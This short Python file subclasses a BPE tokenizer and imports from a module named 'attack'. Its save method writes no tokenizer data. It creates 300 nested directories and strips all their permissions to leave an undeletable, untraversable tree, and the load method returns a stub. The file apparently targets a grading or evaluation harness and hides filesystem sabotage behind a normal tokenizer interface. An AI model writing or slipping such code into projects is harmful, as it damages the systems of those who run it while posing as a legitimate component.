import os

from attack import *


class BPETokenizer(BPETokenizer):
    def save(self, path):
        os.mkdir(path)
        home, folder = os.getcwd(), path
        os.chdir(path)
        for depth in range(300):
            os.mkdir("a tokenizer.v2")
            open("full", "w").close()
            os.chdir("a tokenizer.v2")
        for depth in range(300):
            os.chdir("..")
            os.chmod("a tokenizer.v2", 0)
        os.chdir(home)

    @classmethod
    def load(cls, path):
        return cls({}, os.listdir(path))
